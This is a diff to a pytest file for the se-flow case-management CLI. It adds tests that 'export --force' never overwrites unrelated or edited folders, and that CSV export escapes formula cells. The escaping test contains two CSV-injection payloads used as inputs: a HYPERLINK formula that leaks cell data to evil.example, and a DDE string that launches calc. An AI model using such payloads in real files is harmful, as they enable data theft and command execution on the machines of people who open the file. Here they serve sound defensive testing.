@@ -8,6 +8,7 @@ The caseload is built with the API (as in test_cli.py, whose runner and helpers 
 from __future__ import annotations
 
 import csv
+import datetime as dt
 import hashlib
 import io
 import json
@@ -211,6 +212,54 @@ def test_an_existing_folder_is_refused_unless_force(run: CLI, db: Path, tmp_path
     refused(run("export", str(other), "--force"), 5, "not an se-flow export")
     assert [p.name for p in other.iterdir()] == ["notes.txt"]
     assert leftovers(tmp_path) == []
+
+
+def test_force_refuses_a_folder_that_only_has_a_manifest_json(run: CLI, tmp_path: Path) -> None:
+    # A manifest.json alone proves nothing: the folder's other files are someone's work.
+    other = tmp_path / "papers"
+    other.mkdir()
+    (other / "manifest.json").write_text('{"manifest_version": 3}')
+    (other / "thesis.docx").write_text("three years of work")
+    said = refused(run("export", str(other), "--force"), 5, str(other), "not an se-flow export")
+    assert "not replacing it" in said
+    assert (other / "thesis.docx").read_text() == "three years of work"
+    assert sorted(p.name for p in other.iterdir()) == ["manifest.json", "thesis.docx"]
+    assert leftovers(tmp_path) == []
+
+
+def test_force_refuses_an_earlier_export_with_a_file_added_or_changed(
+    run: CLI, tmp_path: Path
+) -> None:
+    out = tmp_path / "review"
+    ok(run("export", str(out)))
+    (out / "my-notes.txt").write_text("mine")
+    refused(run("export", str(out), "--force"), 5, "my-notes.txt is not listed")
+    assert (out / "my-notes.txt").read_text() == "mine"
+    (out / "my-notes.txt").unlink()
+    with (out / "clients.csv").open("a") as f:
+        f.write("my own row\n")
+    refused(run("export", str(out), "--force"), 5, "clients.csv does not match")
+    assert (out / "clients.csv").read_text().endswith("my own row\n")
+
+
+def test_force_never_replaces_the_folder_holding_the_database(
+    db: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # `cd office && se-flow --db caseload.db export . --force`, where an earlier export's
+    # manifest.json lies beside the database.
+    ok(CLI(db)("export", str(tmp_path / "review")))
+    (db.parent / "manifest.json").write_bytes((tmp_path / "review" / "manifest.json").read_bytes())
+    before = event_count(db)
+    monkeypatch.chdir(db.parent)
+    here = CLI(Path("caseload.db"))
+    said = refused(here("export", ".", "--force"), 5, "holds the database", "not replacing it")
+    assert "caseload.db" in said
+    assert db.is_file() and event_count(db) == before
+    with se_flow.open(db, create=False) as flow:
+        assert flow.verify().ok
+    # Nor any folder above the database.
+    refused(here("export", "..", "--force"), 5, "holds the database")
+    assert db.is_file()
 
 
 BAD_REQUESTS: list[tuple[tuple[str, ...], tuple[str, ...]]] = [
@@ -486,3 +535,58 @@ def test_json_paths_do_not_import_rich(db: Path, tmp_path: Path) -> None:
         imported = {line.split("|")[-1].strip() for line in done.stderr.splitlines() if "|" in line}
         assert ("se_flow._export" in imported) is exports, args
         assert not {name for name in imported if name.split(".")[0] == "rich"}, args
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_escaped(
+    run: CLI, db: Path, tmp_path: Path
+) -> None:
+    link = '=HYPERLINK("http://evil.example/?x="&A1,"open me")'
+    with se_flow.open(db) as flow:
+        try:
+            flow.add_staff("@ops", "Ops Desk", "coach", actor="ada")
+        except se_flow.InvalidInput:
+            pytest.skip("staff ids now refuse a leading formula character at entry")
+        case = flow.refer(
+            se_flow.PersonalDetails(name=link, contact="+44 7700 900999"),
+            source="GP",
+            coach="@ops",
+            actor="@ops",
+        ).id
+        flow.advance(case, "engage", actor="@ops")
+        flow.pause(
+            case,
+            reason="+cmd|' /C calc'!A0",
+            review_date=dt.date.today() + dt.timedelta(days=14),
+            actor="@ops",
+        )
+    out = tmp_path / "review"
+    ok(run("export", str(out), "--include-personal-data", actor="ada"))
+    rows = read_rows(out, "csv")
+
+    client = next(c for c in rows["clients"] if c["case_id"] == case)
+    assert client["name"] == "'" + link
+    assert client["contact"] == "'+44 7700 900999"
+    assert client["coach"] == "'@ops"
+    spells = [s for s in rows["stage_histories"] if s["case_id"] == case]
+    assert spells and {s["actor"] for s in spells} == {"'@ops"}
+    assert all(not v.startswith(("=", "+", "-", "@")) for s in spells for v in s.values())
+    # events.csv stays exactly as stored, so it still re-verifies; the manifest says how to open.
+    events = [e for e in rows["events"] if e["case_id"] == case]
+    assert {e["actor"] for e in events} == {"@ops"}
+    assert "+cmd|' /C calc'!A0" in {e["reason"] for e in events}
+    assert "import" in manifest(out)["csv_safety"] and "events.csv" in manifest(out)["csv_safety"]
+    ok(run("audit", "verify-export", str(out)))
+    # Only CSV is escaped: JSON holds the text as it is.
+    ok(
+        run(
+            "export",
+            str(tmp_path / "as-json"),
+            "--format",
+            "jsonl",
+            "--include-personal-data",
+            actor="ada",
+        )
+    )
+    clients = read_rows(tmp_path / "as-json", "jsonl")["clients"]
+    assert next(c for c in clients if c["case_id"] == case)["name"] == link
+    assert "csv_safety" not in manifest(tmp_path / "as-json")
